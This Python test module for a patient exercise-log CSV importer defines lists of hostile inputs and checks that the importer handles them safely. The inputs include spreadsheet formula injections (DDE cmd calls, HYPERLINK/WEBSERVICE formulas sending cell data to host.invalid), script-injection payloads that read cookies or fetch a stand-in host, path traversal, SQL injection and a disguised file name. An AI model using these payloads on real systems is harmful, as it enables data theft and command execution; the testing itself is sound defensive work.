"""Texts that do harm where a program trusts them: formulas, scripts, odd names, all made up; and where they stand."""

import csv
import io
import re
import tempfile
import unicodedata
from itertools import product
from pathlib import Path

from toolkit.errors import LogError
from toolkit.logs.answers import answered
from toolkit.logs.codes import words
from toolkit.logs.mapping import Mapping, load_mapping, mapping_of, save_mapping
from toolkit.logs.read import begin, read_log, read_source
from toolkit.logs.source import source_of
from toolkit.logs.write import quarantine_file

BEGIN = ("=", "+", "-", "@", "\t=", "\r=", "=-", "@+", "a\r=", "a\n=", "\uff1d", "\u200b=")
BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://host.invalid/?"&A1,"see")', "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML("http://host.invalid",A1)', "WEBSERVICE(\"http://host.invalid\")", "DDE(\"cmd\";\"/C calc\";\"x\")",
    '"x"&A2', "2,5;x", "10+20\t=3",
)  # fmt: skip
FORMULAS = [first + body for first, body in product(BEGIN, BODIES)]

CARRIERS = (
    "<script>{}</script>", "<img src=x onerror={}>", '"><svg onload={}>', "<a href='javascript:{}'>x</a>",
    "';{};//", "</textarea><script>{}</script>", "<iframe srcdoc='<script>{}</script>'>", "{{{{{}}}}}", "${{{}}}",
    "<style>@import'javascript:{}'</style>",
)  # fmt: skip
CALLS = (
    "alert(1)",
    "fetch('//host.invalid')",
    "document.cookie",
    "eval(name)",
    "print`1`",
    "&#97;lert(1)",
    "%61lert(1)",
)
SCRIPTS = [carrier.format(call) for carrier, call in product(CARRIERS, CALLS)]

NAMES = [
    "", " ", "  padded  ", ".", "..", "../../etc/passwd", "C:\\con", "NUL", "aux.csv", "a/b", "a\\b", "~root", "*", "?",
    "a:b", "a|b", "-rf", "--", "'; drop table log; --", "\" or 1=1", "%s%n", "%00", "{0}", "{name}", "\\0", "\\x00",
    "None", "null", "NA", "NaN", "nan", "inf", "True", "undefined", "[object Object]", "00123", "1E5", "0x1F", "1,5",
    "12/03/2026", "45000", "user@host.invalid", "O'Brien", 'the "best"', "e\u0301", "\u00e9", "\u212b", "\ufb01le",
    "\u1e9e\u00df", "\u0130i\u0131", "\u202egnp.exe", "\u200bzero", "a\u00a0b", "\ufeffmark",
    "\U0001f468\u200d\U0001f469",    "\u0627\u0644\u0639", "\ud55c\uae00", "a" * 65, "x" * 300, "line\nbreak",
]  # fmt: skip
HOSTILE = [*FORMULAS, *SCRIPTS, *NAMES]

COLUMNS = ("patient_id", "exercise", "performed_at", "sets", "note", "entry_id")
GOOD = ("p", "abdominal_stability", "2026-03-02", "1", "", "")
THREE = {"patient_id": "who", "performed_at": "day"}
TABLE = {"columns": THREE, "constants": {"exercise": "abdominal_stability"}}
SWALLOWED = "rows_in_cell"  # a line inside a cell that has the delimiters of a whole row cannot be told from one
RAN = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet takes for a formula


def row(**changes):
    return [changes.get(name, cell) for name, cell in zip(COLUMNS, GOOD, strict=True)]


def csv_file(rows, titles=COLUMNS):
    """Return a file with every cell in quotes, and the line on which each row begins."""
    text, lines, line = [], [], 1
    for one in [titles, *rows]:
        text.append(",".join('"' + cell.replace('"', '""') + '"' for cell in one))
        lines.append(line)
        line += len(re.split("\r\n|\r|\n", text[-1]))
    return "\n".join(text).encode(), lines[1:]


def safe(text):
    """Return whether a text may be shown on a screen or a terminal: all its lines can be printed."""
    return all(line.isprintable() for line in text.split("\n"))


def fit_to_show(found):
    """Hold that a quarantine says what is wrong in words that can be shown, and that no cell of its file runs."""
    for one in found.quarantine.to_dict("records"):
        assert one["code"] in words()["row"] | words()["information"]
        assert one["message"].isprintable()
        assert len(one["message"]) < 500
        assert one["value"] != one["value"] or (one["value"].isprintable() and len(one["value"]) <= 40)
    file = io.StringIO(quarantine_file(found.quarantine).decode("utf-8-sig"), newline="")
    cells = list(csv.reader(file, strict=True))
    assert len(cells) == len(found.quarantine) + 1
    assert not [cell for one in cells for cell in one if cell.startswith(RAN)]


def fates(rows):
    """Return what became of each row: the entry, or the row of the quarantine."""
    data, lines = csv_file(rows)
    found = read_source(source_of("log.csv", data))
    assert (found.questions, found.account.adds_up) == ((), True)
    fit_to_show(found)
    fate = {one["line"]: one for one in [*found.log.to_dict("records"), *found.quarantine.to_dict("records")]}
    return [fate[line] for line in lines]


def nfc(text):
    return unicodedata.normalize("NFC", text)


def changed(texts, column, meant, *codes):
    """Return the texts that came to anything but what was meant, or to one of the codes."""
    found = [one.get("code") or one[column] for one in fates(row(**{column: text}) for text in texts)]
    found = [None if one != one else one for one in found]
    return [text for text, one in zip(texts, found, strict=True) if one not in (meant(text), *codes, SWALLOWED)]


def as_note(texts):
    """A note is kept as it is, in NFC; one of blanks alone is none."""
    return changed(texts, "note", lambda text: nfc(text) if text.strip() else None, "out_of_range")


def as_note_set_aside(texts):
    """The note of a row that is set aside stays as it is."""
    found = fates(row(note=text, sets="x") for text in texts)
    told = [nfc(text) if one["code"] == SWALLOWED else one["note"] for text, one in zip(texts, found, strict=True)]
    return [text for text, note in zip(texts, told, strict=True) if text.strip() and note != nfc(text)]


def as_patient(texts):
    return changed(
        texts, "patient_id", lambda text: nfc(text.strip()), "id_characters", "id_personal", "patient_missing"
    )


def as_entry(texts):
    ids = [text for text in texts if text.strip()]  # without one the import makes one
    return changed(ids, "entry_id", str.strip, "id_characters")


def as_exercise(texts):
    return changed(texts, "exercise", lambda text: "exercise_unknown" if text.strip() else "exercise_missing")


def answered_file(texts, mapping, answer):
    """Answer every name that a file asks for, save and load the mapping, read; return the texts that are not kept."""
    rows = [("2026-03-02", text, f"p{number}", "1") for number, text in enumerate(texts)]
    data, lines = csv_file(rows, ("a", "b", "c", "d"))
    for _ in range(5):
        found = read_source(source_of("log.csv", data), mapping=mapping)
        assert safe(repr(found))
        if not found.questions:
            break
        [question] = found.questions
        mapping = answered(mapping, question, dict.fromkeys(question.names, answer))
    with tempfile.TemporaryDirectory() as folder:
        save_mapping(mapping, Path(folder) / "mapping.json")
        assert load_mapping(Path(folder) / "mapping.json") == mapping
    fit_to_show(found)
    kept = set(found.log["line"])
    kept |= set(found.quarantine["line"][found.quarantine["code"] == SWALLOWED])
    return [text for text, line in zip(texts, lines, strict=True) if (line in kept) != bool(text.strip())]


def as_name(texts):
    """A foreign name is asked for and, once answered, read."""
    columns = {"patient_id": "c", "exercise": "b", "performed_at": "a", "sets": "d"}
    return answered_file(texts, Mapping(columns=columns), {"exercise": "abdominal_stability"})


def as_word(texts):
    """So is a word for a side that is none of ours."""
    columns = {"patient_id": "c", "side": "b", "performed_at": "a", "sets": "d"}
    others = [text for text in texts if text.strip().casefold() not in ("left", "right", "both", "none")]
    return answered_file(others, Mapping(columns=columns, constants={"exercise": "psoas_stretch"}), "left")


def titled(text, mapping):
    """Return the notes of a file with a column of this name, and whether all that is told of it can be shown."""
    data, _ = csv_file([("p", "2026-03-02", "seen")] * 2, ("who", "day", text))
    try:
        reading = begin(source_of(text, data), mapping=mapping_of(mapping))
        notes = [item.entry["note"] for item in reading.items()]
    except LogError as error:  # nothing says which column is meant, or the header looks like values
        return error.code, safe(str(error))
    return notes, safe("\n".join(map(str, [reading.account, *reading.questions, *reading.notices])))


def as_title(texts):
    """A column that is read may be called anything but nothing: which column of several without a name would it be?"""
    named = [text for text in texts if text.strip()]
    found = [(text, titled(text, TABLE | {"columns": THREE | {"note": text}})) for text in named]
    return [text for text, one in found if one != (["seen"] * 2, True)]


def as_title_left_out(texts):
    """A column that is not read, or not yet, is named in words that can be shown."""
    return [text for text in texts if titled(text, TABLE) != ([None] * 2, True) or not titled(text, None)[1]]


def as_file_name(texts):
    """A file that is not there, of any name, is told of in words that can be shown."""
    wrong = []
    for text in [*texts, "a\0b", "\ud800"]:
        for take in (read_log, load_mapping):
            try:
                take(Path("nowhere") / text)
            except LogError as error:
                wrong += [] if safe(str(error)) else [(take.__name__, text)]
            except Exception as error:
                wrong.append((take.__name__, text, repr(error)))
    return wrong


PLACES = {
    one.__name__: one
    for one in (
        as_note, as_note_set_aside, as_patient, as_entry, as_exercise, as_name, as_word, as_title, as_title_left_out,
        as_file_name,
    )
}  # fmt: skip
